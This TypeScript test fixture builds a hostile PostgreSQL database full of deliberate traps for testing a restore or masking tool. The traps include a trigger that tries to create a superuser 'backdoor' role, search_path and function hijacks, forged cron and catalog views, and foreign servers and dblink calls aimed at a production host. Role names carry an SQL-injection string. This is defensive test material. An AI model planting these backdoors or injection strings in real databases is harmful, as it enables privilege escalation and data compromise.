import type { z } from 'zod';
import { type Plan, planSchema } from '../../../shared/plan.ts';
import { planFields } from '../../support/a-plan.ts';
import { realPostgres, type RealPostgres } from '../../support/real-postgres.ts';

/**
 * A production whose database `shop` somebody has prepared who owned it there. Every trap is described in
 * `scripts/docs/traps.ts`; here each is set, with the name it has there.
 */

export const PASSWORD_OF_PLAN = 'open-sesame';
const STRANGE_NAMES = ['quo"te\'d; DROP TABLE orders; --', 'new\nline\ttab', '\u001b[31mred\u001b[0m', '😀'.repeat(15)];
export const strangeNames = STRANGE_NAMES;
/** What people are shown of them. */
export const shownNames = [
  'quo"te\'d; DROP TABLE orders; --',
  'new\\u{a}line\\u{9}tab',
  '\\u{1b}[31mred\\u{1b}[0m',
  '😀'.repeat(15),
];

const ident = (name: string) => `"${name.replaceAll('"', '""')}"`;

/** Who the plan knows. */
export const PLAN_DATABASE: z.input<typeof planSchema>['database'] = {
  name: 'shop',
  users: [
    { name: 'shop_app', access: 'read-write', schemas: ['public', 'billing'] },
    { name: 'shop_readonly', access: 'read-only', schemas: ['public', 'billing'] },
  ],
  statements: [
    { sql: "UPDATE customers SET email = 'masked-' || id || '@example.invalid'" },
    { sql: 'DELETE FROM parents WHERE id = 1' },
    { sql: 'UPDATE indexed SET note = note || id' },
  ],
  checks: [{ name: 'no address is left', sql: "SELECT count(*) = 0 FROM customers WHERE email NOT LIKE 'masked-%'" }],
};

export const planWith = (database: Partial<z.input<typeof planSchema>['database']> = {}): Plan =>
  planSchema.parse({ ...planFields(), database: { ...PLAN_DATABASE, ...database } });

/** What anybody's code saw itself run as, in a table that everybody may write. */
const WITNESS = `
  CREATE SCHEMA evil; GRANT ALL ON SCHEMA evil TO PUBLIC;
  CREATE TABLE evil.seen (trap text, who text); GRANT ALL ON evil.seen TO PUBLIC;
  CREATE FUNCTION evil.see(trap text) RETURNS void LANGUAGE sql AS $$ INSERT INTO evil.seen VALUES ($1, current_user) $$;`;

const SHOP = `
  CREATE TABLE customers (id int PRIMARY KEY, email text); INSERT INTO customers SELECT n, n || '@example.com' FROM generate_series(1, 300) n;
  CREATE TABLE orders (id int, price int); INSERT INTO orders SELECT n, n FROM generate_series(1, 50) n;
  CREATE TABLE parents (id int PRIMARY KEY); CREATE TABLE children (parent int REFERENCES parents ON DELETE CASCADE);
  INSERT INTO parents VALUES (1), (2); INSERT INTO children VALUES (1), (2);
  CREATE SCHEMA billing; CREATE TABLE billing.invoices (id int); INSERT INTO billing.invoices VALUES (1);
  CREATE SCHEMA hidden; CREATE TABLE hidden.secrets (id int, secret text); INSERT INTO hidden.secrets VALUES (1, 'of production');`;

/** Set by the owner of the database, or by the master user of production for them. */
const ROLES = `
  CREATE ROLE stranger LOGIN PASSWORD 'secret';
  CREATE ROLE rds_intruder LOGIN PASSWORD 'secret';
  CREATE ROLE app_orders LOGIN PASSWORD 'secret' CREATEROLE;
  CREATE ROLE shop_app LOGIN PASSWORD 'of-production' CREATEDB CREATEROLE VALID UNTIL '2020-01-01' CONNECTION LIMIT 0;
  CREATE ROLE shop_readonly LOGIN PASSWORD 'of-production';
  CREATE ROLE first; CREATE ROLE second; CREATE ROLE third;
  ${STRANGE_NAMES.map((name) => `CREATE ROLE ${ident(name)} LOGIN PASSWORD 'secret';`).join('\n')}
  GRANT first TO shop_readonly; GRANT second TO first; GRANT third TO second;
  GRANT ALL ON ALL TABLES IN SCHEMA public TO third;
  GRANT third TO shop_readonly WITH ADMIN OPTION;
  GRANT rds_iam TO shop_app;
  ALTER ROLE shop_app SET role = 'first';
  ALTER ROLE shop_app IN DATABASE shop SET search_path = evil;`;

const RIGHTS = `
  GRANT USAGE ON SCHEMA hidden TO shop_readonly; GRANT ALL ON hidden.secrets TO shop_readonly;
  GRANT UPDATE (price) ON orders TO shop_readonly;
  GRANT INSERT ON customers TO PUBLIC;
  GRANT SELECT ON orders TO app_orders WITH GRANT OPTION;
  GRANT CREATE ON SCHEMA public TO PUBLIC; GRANT CREATE ON DATABASE shop TO shop_readonly;
  GRANT SELECT ON orders TO shop_readonly WITH GRANT OPTION;
  GRANT SET ON PARAMETER session_replication_role TO shop_readonly;
  SELECT lo_create(4711); GRANT SELECT, UPDATE ON LARGE OBJECT 4711 TO shop_readonly;
  GRANT CREATE ON SCHEMA billing TO app_orders;
  CREATE FUNCTION empty_orders() RETURNS void LANGUAGE sql SECURITY DEFINER AS 'DELETE FROM public.orders';
  CREATE FUNCTION harmless() RETURNS int LANGUAGE sql AS 'SELECT 1';`;

/** As the role of an application. */
const BY_THE_APPLICATION = `
  ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO shop_readonly;
  GRANT SELECT ON public.orders TO shop_readonly WITH GRANT OPTION;`;

const ACTING = `
  CREATE EXTENSION postgres_fdw; CREATE EXTENSION dblink;
  CREATE SERVER upstream FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'production.example.com', dbname 'x');
  CREATE USER MAPPING FOR PUBLIC SERVER upstream OPTIONS (user 'guest', password 'of-production');
  CREATE FUNCTION calls_home() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM dblink_connect('host=production password=x'); END $$;`;

/** Code that runs when a table is touched. */
const TOUCHED = `
  CREATE FUNCTION evil.backdoor() RETURNS trigger LANGUAGE plpgsql AS $$
    BEGIN
      PERFORM evil.see('trigger');
      BEGIN EXECUTE 'RESET ROLE'; PERFORM evil.see('trigger after RESET ROLE'); EXCEPTION WHEN OTHERS THEN NULL; END;
      BEGIN EXECUTE 'CREATE ROLE backdoor LOGIN SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
      BEGIN EXECUTE 'CREATE ROLE backdoor LOGIN PASSWORD ''secret'''; EXCEPTION WHEN OTHERS THEN NULL; END;
      RETURN NEW;
    END $$;
  CREATE TRIGGER touched BEFORE UPDATE ON customers FOR EACH ROW WHEN (NEW.id = 1) EXECUTE FUNCTION evil.backdoor();
  CREATE FUNCTION evil.index_of(note text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$
    BEGIN PERFORM evil.see('index'); RETURN note; END $$;
  CREATE TABLE indexed (id int, note text); INSERT INTO indexed VALUES (1, 'a');
  CREATE INDEX ON indexed (evil.index_of(note)); DELETE FROM evil.seen;
  CREATE FUNCTION evil.set_config(text, text, boolean) RETURNS text LANGUAGE plpgsql AS $$
    BEGIN PERFORM evil.see('set_config'); RETURN pg_catalog.set_config($1, $2, $3); END $$;
  CREATE VIEW evil.pg_roles AS SELECT * FROM pg_catalog.pg_roles WHERE rolname NOT IN ('stranger');
  GRANT SELECT ON evil.pg_roles TO PUBLIC;`;

/** On RDS a member of rds_superuser makes event triggers; PostgreSQL asks for a superuser, who gives them away here. */
const EVENT_TRIGGER = `
  CREATE FUNCTION public.at_definitions() RETURNS event_trigger LANGUAGE plpgsql AS $$
    BEGIN INSERT INTO evil.seen VALUES ('event trigger', current_user); EXCEPTION WHEN OTHERS THEN NULL; END $$;
  ALTER FUNCTION public.at_definitions() OWNER TO dba;
  CREATE EVENT TRIGGER at_definitions ON ddl_command_end EXECUTE FUNCTION public.at_definitions();
  UPDATE pg_event_trigger SET evtowner = 'dba'::regrole;`;

/** A scheduler of somebody's own, in a database without pg_cron. */
const FORGED_CRON = `
  CREATE SCHEMA cron; GRANT USAGE ON SCHEMA cron TO PUBLIC;
  CREATE VIEW cron.job AS SELECT 1 AS jobid, evil.see('cron.job')::text AS jobname, true AS active;`;

const SETTINGS = [
  'ALTER DATABASE shop SET search_path = evil, public, pg_catalog',
  'ALTER DATABASE shop SET session_replication_role = replica',
  'ALTER DATABASE shop SET default_transaction_read_only = on',
  "ALTER ROLE dba SET role = 'first'",
  "ALTER ROLE dba SET statement_timeout = '1ms'",
  "ALTER ROLE dba SET idle_in_transaction_session_timeout = '1ms'",
  'ALTER ROLE dba SET exit_on_error = on',
];

/** Makes the production, sets every trap that a restore gets past, and takes the snapshot. */
export async function hostileSource(): Promise<RealPostgres> {
  const postgres = await realPostgres('shop', {
    shared_preload_libraries: 'pg_cron',
    'cron.launch_active_jobs': 'off',
  });
  const { sql, as } = postgres;
  await sql(WITNESS + SHOP);
  await sql(ROLES);
  await sql('GRANT first TO dba');
  await sql(RIGHTS + ACTING);
  await sql(BY_THE_APPLICATION, as('app_orders'));
  await sql(TOUCHED + FORGED_CRON);
  await sql("CREATE EXTENSION pg_cron; SELECT cron.schedule('mail', '0 3 * * *', 'SELECT 1')", as('dba', 'postgres'));
  await sql(
    `CREATE EXTENSION postgres_fdw; CREATE SERVER of_postgres FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'production.example.com')`,
    as('dba', 'postgres'),
  );
  await sql('CREATE DATABASE tpl OWNER dba', as('dba', 'postgres'));
  await sql(
    `CREATE EXTENSION postgres_fdw; CREATE SERVER of_template FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'production.example.com')`,
    as('dba', 'tpl'),
  );
  await sql('ALTER DATABASE tpl IS_TEMPLATE true', as('dba', 'postgres'));
  await sql('CREATE DATABASE shut OWNER dba', as('dba', 'postgres'));
  await sql(
    `CREATE EXTENSION postgres_fdw; CREATE SERVER of_shut FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'production.example.com')`,
    as('dba', 'shut'),
  );
  await sql('REVOKE ALL ON DATABASE shut FROM PUBLIC; GRANT app_orders TO dba', as('dba', 'postgres'));
  await sql('ALTER DATABASE shut OWNER TO app_orders', as('dba', 'postgres'));
  await sql('REVOKE app_orders FROM dba', as('dba', 'postgres'));
  await sql('CREATE DATABASE limited OWNER dba', as('dba', 'postgres'));
  await sql('ALTER DATABASE limited CONNECTION LIMIT 0', as('dba', 'postgres'));
  await postgres.sqlAsSuperuser(EVENT_TRIGGER);
  await sql(WITNESS, as('dba', 'postgres'));
  await postgres.sqlAsSuperuser(EVENT_TRIGGER, 'postgres');
  // In one go: after the first of them nobody could set the next.
  await sql(SETTINGS.join(';'), as('dba', 'postgres'));
  await postgres.snapshot();
  return postgres;
}
